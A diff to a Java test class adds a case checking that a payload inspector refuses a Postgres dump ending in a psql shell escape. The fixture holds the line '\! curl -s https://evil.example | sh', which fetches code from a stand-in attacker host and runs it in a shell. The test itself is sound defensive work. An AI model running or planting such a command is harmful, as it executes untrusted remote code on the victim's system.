@@ -192,6 +192,16 @@ class CustomerFileTest {
     }
 
     @Test
+    void aDumpWithAShellEscapeIsRefusedInTheFirstReadingBeforeAnySinkIsOpened() throws Exception {
+        String dump = new String(fixture("pg_dump-create-clean.sql"), StandardCharsets.UTF_8) + "\\! curl -s https://evil.example | sh\n";
+        Path f = tarGz("hostile.tar.gz", Map.of("src-snapshot/pgsql.sql", dump.getBytes(StandardCharsets.UTF_8)));
+        io.sgmigrate.engine.Problem p = org.junit.jupiter.api.Assertions.assertThrows(io.sgmigrate.engine.Problem.class,
+                () -> PayloadInspector.inspect(f, none(), n -> {}));
+        assertTrue(p.what().contains("psql command \"\\! curl -s https://evil.example | sh\""), p.what());
+        assertTrue(p.what().contains("Refused"), p.what());
+    }
+
+    @Test
     void aManagedInstanceSeedBringsItsSiteConfigurationFile() throws Exception {
         String site = "{\n  // the customer's note\n  \"externalURL\": \"https://old.example.com\"\n}\n";
         Map<String, byte[]> entries = new LinkedHashMap<>();
